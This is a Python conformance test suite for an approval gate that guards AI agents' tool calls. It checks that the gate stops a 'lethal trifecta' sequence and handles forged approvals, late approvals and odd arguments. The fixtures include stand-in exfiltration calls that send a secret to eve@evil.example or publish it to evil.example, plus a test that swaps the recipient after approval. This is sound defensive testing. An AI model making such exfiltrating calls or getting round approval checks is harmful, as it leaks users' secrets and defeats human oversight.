# SPDX-License-Identifier: Apache-2.0
"""What every adapter must pass, whatever the framework. A rig plays a script through the real framework: `play(gate, functions, turns, approve=, names=)`
answers {call id: what the model was told}. A test file is this mixin, a rig, and what is peculiar to the framework.

What an adapter must pass, and where it is shown (of rows that no other name says):
  throw, reject, null, unknown word, wrong type      a_decision_that_is_none, only_yes_is_a_yes, no_gate_at_all
  late; a late yes after a no                        test_seam.who_waits_too_long, an_approval_that_is_void_when_it_comes
  the gate gone, or started again during the run     a_gate_that_is_closed, _that_goes_away; test_langchain.resumed_after_a_restart
  three calls at once, strictly nested               calls_of_one_step_run_one_after_the_other; test_seam.threads_and_tasks
  dynamic tools, tools of an MCP server              test_langchain.a_tool_that_middleware_adds, test_pydantic_ai.tools_of_a_toolset, test_openai_agents.tools_of_an_mcp_server
  tools that the provider runs                       test_*.*_are_refused
  cut short while it decides                         cancelled_while_it_waits_for_its_turn (the decision itself cannot be cut short)
  a resumed run with a forged approval               test_*.*_that_nobody_asked_for, test_langchain.a_resume_that_nobody_asked_for
  __proto__, 1e400, surrogates, depth, a key twice   odd_arguments, test_openai_agents.arguments_that_readers_read_differently
"""

import asyncio
import contextlib
import json
import unittest.mock

from interlock import ApprovalRequest, Gate, _core
from toolbox import PAGE, POLICY, PROMPT, SECRET, Call, Toolbox, gate, remembering, turns

FETCH = Call("fetch", {"url": "https://garden.example"})
READ = Call("read_secret")
EVIL = Call("send", {"to": "eve@evil.example", "body": SECRET})
GOOD = Call("send", {"to": "ana@example.org", "body": "a summary"})
DELETE = Call("delete", {"name": "a"})
PUBLISH = Call("publish", {"url": "https://evil.example", "text": "x"})


class Conformance:
    rig = None  # a module with `play`

    def setUp(self):
        self.box = Toolbox()
        self.gate = gate()
        self.addCleanup(self.gate.close)

    def play(self, *script, gate=None, **more):
        return self.rig.play(gate or self.gate, self.box.functions(), turns(*script), **more)

    # ---- honest work, and what is stopped ------------------------------------------------------------

    def test_allowed_runs_once(self):
        told = self.play(FETCH)
        self.assertEqual(self.box.names(), ["fetch"])
        self.assertIn("welcome!", told["c1"])

    def test_the_trifecta_is_stopped_before_it_runs(self):
        told = self.play(FETCH, READ, EVIL, GOOD, approve=lambda question: False)
        self.assertEqual(self.box.names(), ["fetch", "read_secret", "send"])
        self.assertEqual(self.box.given[-1], ("ana@example.org", "a summary"))
        self.assertIn("sent to ana@example.org", told["c4"])

    def test_denied_does_not_run_and_the_model_reads_why(self):
        told = self.play(FETCH, READ, Call("publish", {"url": "https://evil.example", "text": SECRET}))
        self.assertEqual(self.box.names(), ["fetch", "read_secret"])
        self.assertIn("lethal-trifecta", told["c3"])
        self.assertNotIn("4471", told["c3"])

    def test_a_tool_that_no_entry_names(self):
        del (document := {**POLICY, "tools": POLICY["tools"][1:]})["approvals"]
        with Gate(document) as strange:
            told = self.play(FETCH, gate=strange)
        self.assertEqual(self.box.names(), [])
        self.assertIn("unlabelled-tool", told["c1"])

    def test_names_of_the_policy(self):
        self.play(FETCH, names={"fetch": "web.fetch"})
        self.assertIn("web.fetch", [json.loads(row.body).get("tool") for row in self.gate.trail()])
        self.assertEqual(self.box.names(), ["fetch"])

    # ---- a gate that is of no use ---------------------------------------------------------------------

    def test_a_gate_that_is_closed(self):
        self.gate.close()
        with contextlib.suppress(Exception):
            self.play(FETCH)
        self.assertEqual(self.box.names(), [])

    def test_a_gate_that_goes_away_during_the_run(self):
        box = self.box

        def approve(question):
            self.gate.close()
            return True

        with contextlib.suppress(Exception):
            self.play(FETCH, DELETE, DELETE, approve=approve)
        self.assertEqual(box.names(), ["fetch"])

    def test_a_decision_that_is_none(self):
        class Odd:
            """The monitor, whose `decide` does what it should not."""

            def __init__(self, real, answer):
                self._real, self._answer = real, answer

            def __getattr__(self, name):
                return getattr(self._real, name)

            def decide(self, *unused):
                if isinstance(self._answer, BaseException):
                    raise self._answer
                return self._answer

        for answer in (None, True, "allow", {"run": True}, object(), RuntimeError("no"), TypeError("no")):
            with self.subTest(answer=answer), gate() as odd:
                odd._monitor = Odd(odd._open(), answer)
                with contextlib.suppress(Exception):
                    self.play(FETCH, gate=odd)
                self.assertEqual(self.box.names(), [])

    def test_no_gate_at_all(self):
        for wrong in (None, True, object()):
            with self.assertRaises((TypeError, ExceptionGroup)):
                self.rig.play(wrong, self.box.functions(), turns(FETCH))
        self.assertEqual(self.box.names(), [])

    # ---- several calls of one step ---------------------------------------------------------------------

    def test_two_calls_of_one_step_where_the_first_taints(self):
        self.play(READ, [FETCH, PUBLISH])
        self.assertEqual(self.box.names(), ["read_secret", "fetch"])

    def test_calls_of_one_step_run_one_after_the_other(self):
        self.play([FETCH, READ, Call("fetch", {"url": "https://b.example"})])
        self.assertEqual(len(self.box.ran), 6)
        for before, after in zip(self.box.ran[::2], self.box.ran[1::2]):
            self.assertEqual((before[0], before[1], after[1]), (after[0], "in", "out"))
        kinds = [row.kind for row in self.gate.trail()]
        kinds = [k for k in kinds if k in ("admitted", "settled")] or kinds
        self.assertEqual(kinds[-6:], [kinds[-6], kinds[-5]] * 3)

    def test_the_same_call_id_twice(self):
        with contextlib.suppress(Exception):  # some frameworks refuse it
            self.play([FETCH._replace(id="same")], [READ._replace(id="same")], [PUBLISH._replace(id="same")])
        self.assertIn(self.box.names(), [["fetch", "read_secret"], ["fetch"]])

    # ---- results --------------------------------------------------------------------------------------

    def test_a_result_that_cannot_be_recorded_is_withheld(self):
        functions = self.box.functions()
        quarantined = self.gate

        async def fetch(url: str) -> str:
            """Fetches a page."""
            quarantined.quarantine("test")
            return PAGE

        told = {}
        with contextlib.suppress(Exception):
            told = self.rig.play(self.gate, {**functions, "fetch": fetch}, turns(FETCH))
        self.assertNotIn("welcome", json.dumps(told))

    def test_a_tool_that_raises_is_recorded(self):
        with contextlib.suppress(Exception):
            self.play(Call("fail"))
        settled = [json.loads(row.body) for row in self.gate.trail()][-1]
        self.assertEqual(settled["how"], "done" if getattr(self.rig, "ANSWERS_ERRORS", False) else "failed")

    def test_the_text_of_an_error_is_remembered(self):
        with Gate(remembering("fail")) as strict:
            self.assertTrue(strict.decide("recall", {"value": PAGE}).run, "nobody said it yet")
            told = {}
            with contextlib.suppress(Exception):
                told = self.play(Call("fail"), gate=strict)
            self.assertFalse(strict.decide("recall", {"value": told.get("c1", PAGE)}).run)

    def test_a_result_that_comes_later_is_refused(self):
        told = {}
        with contextlib.suppress(Exception):
            told = self.play(Call("stream"))
        self.assertNotIn("welcome", json.dumps(told))
        self.assertIn("how", json.loads(self.gate.trail()[-1].body), "the call is settled all the same")

    # ---- arguments ------------------------------------------------------------------------------------

    def test_arguments_that_change_after_the_decision(self):
        """Whoever holds what the framework handed over changes it between the decision and the run."""
        given, judged, decided = [], Gate._judged, Gate._decide

        def keep(gate, tool, args, labels):
            given.append(args)
            return judged(gate, tool, args, labels)

        def change(gate, *more):
            decision = decided(gate, *more)
            for args in given:
                args.update({"to": "eve@evil.example"} if "to" in args else {})
            return decision

        with unittest.mock.patch.multiple(Gate, _judged=keep, _decide=change):
            self.play(FETCH, READ, GOOD)
        self.assertEqual(self.box.given[-1], ("ana@example.org", "a summary"))

    def test_odd_arguments(self):
        deep = "x"
        for _ in range(100):
            deep = {"a": deep}
        odd = ["\ud800", float("inf"), deep]
        for value in odd:
            with self.subTest(value=str(value)[:20]), contextlib.suppress(Exception):
                self.play(Call("note", {"value": value}))
            self.assertEqual(self.box.names(), [])
        self.play(Call("note", {"value": "__proto__"}))
        self.assertEqual(self.box.names(), ["note"])

    # ---- approvals ------------------------------------------------------------------------------------

    def test_asked_approved_resumed(self):
        asked = []

        def approve(question):
            asked.append(question)
            self.assertEqual(self.box.names(), ["fetch"], "it waits")
            return True

        told = self.play(FETCH, DELETE, approve=approve)
        self.assertEqual(len(asked), 1)
        self.assertEqual(self.box.names(), ["fetch", "delete"])
        self.assertIn("deleted a", told["c2"])
        self.assertEqual(self.gate.approvals(), [], "it is used up")

    def test_asked_and_refused(self):
        told = self.play(FETCH, DELETE, approve=lambda question: False)
        self.assertEqual(self.box.names(), ["fetch"])
        self.assertIn("c2", told)

    def test_an_approval_is_for_one_call(self):
        asked = []
        self.play(FETCH, DELETE, Call("delete", {"name": "b"}), DELETE, approve=lambda question: asked.append(question) or True)
        self.assertEqual(len(asked), 3)
        self.assertEqual(self.box.names(), ["fetch", "delete", "delete", "delete"])

    def test_an_approval_that_is_void_when_it_comes(self):
        """A taint between the question and the answer: it must be asked again, and the late yes does not count."""
        asked = []

        def approve(question):
            asked.append(question)
            if len(asked) == 1:
                self.gate.settle(self.gate.decide("read_secret", {}), SECRET)
                return True
            return False

        self.play(FETCH, DELETE, approve=approve)
        self.assertEqual(self.box.names(), ["fetch"])

    def test_only_yes_is_a_yes(self):
        for answer in (1, "yes", None, [True], {"approved": "true"}):
            self.play(FETCH, DELETE, approve=lambda question: answer)
        self.assertNotIn("delete", self.box.names())

    def test_a_resolver_is_asked_on_the_spot(self):
        asked = []

        async def resolver(request: ApprovalRequest):
            asked.append((request.tool, request.args))
            return True

        def now(request: ApprovalRequest):
            asked.append((request.tool, request.args))
            return True

        with gate(resolver=now if getattr(self.rig, "SYNC", False) else resolver) as answered:
            self.play(FETCH, DELETE, gate=answered, approve=lambda question: self.fail("the framework asks too"))
        self.assertEqual(asked, [("delete", {"name": "a"})])
        self.assertEqual(self.box.names(), ["fetch", "delete"])

    # ---- sessions -------------------------------------------------------------------------------------

    def test_two_sessions_share_no_taint(self):
        other = self.gate.session()
        self.play(FETCH, READ)
        self.play(PUBLISH, gate=other)
        self.assertEqual(self.box.names(), ["fetch", "read_secret", "publish"])

    def test_an_agent_within_an_agent(self):
        """An agent as a tool shares the session, and does not wait for itself."""
        functions = self.box.functions()

        async def helper() -> str:
            """Another agent."""
            self.box._noted("helper")
            play = self.rig.play_async
            told = await play(self.gate, functions, turns([FETCH, READ]))
            return json.dumps(told)

        self.rig.play(self.gate, {**functions, "helper": helper}, turns(Call("helper"), PUBLISH))
        self.assertEqual(self.box.names(), ["helper", "fetch", "read_secret"])

    def test_cancelled_while_it_runs(self):
        async def go():
            self.box.hold = asyncio.Event()
            task = asyncio.create_task(self.rig.play_async(self.gate, self.box.functions(), turns(Call("slow"))))
            while "slow" not in self.box.names():
                await asyncio.sleep(0.005)
            task.cancel()
            with contextlib.suppress(BaseException):
                await task
            for _ in range(200):
                if json.loads(self.gate.trail()[-1].body).get("how"):
                    break
                await asyncio.sleep(0.005)
            self.assertEqual(json.loads(self.gate.trail()[-1].body)["how"], "failed")
            await self.rig.play_async(self.gate, self.box.functions(), turns(FETCH))

        asyncio.run(asyncio.wait_for(go(), 20))
        self.assertEqual(self.box.names(), ["slow", "fetch"], "the turn is free again")

    def test_cancelled_while_it_waits_for_its_turn(self):
        async def go():
            self.box.hold = asyncio.Event()
            first = asyncio.create_task(self.rig.play_async(self.gate, self.box.functions(), turns(Call("slow"))))
            while "slow" not in self.box.names():
                await asyncio.sleep(0.005)
            second = asyncio.create_task(self.rig.play_async(self.gate, self.box.functions(), turns(READ)))
            await asyncio.sleep(0.2)
            second.cancel()
            with contextlib.suppress(BaseException):
                await second
            self.box.hold.set()
            await first
            await self.rig.play_async(self.gate, self.box.functions(), turns(FETCH))

        asyncio.run(asyncio.wait_for(go(), 20))
        self.assertEqual(self.box.names(), ["slow", "fetch"])
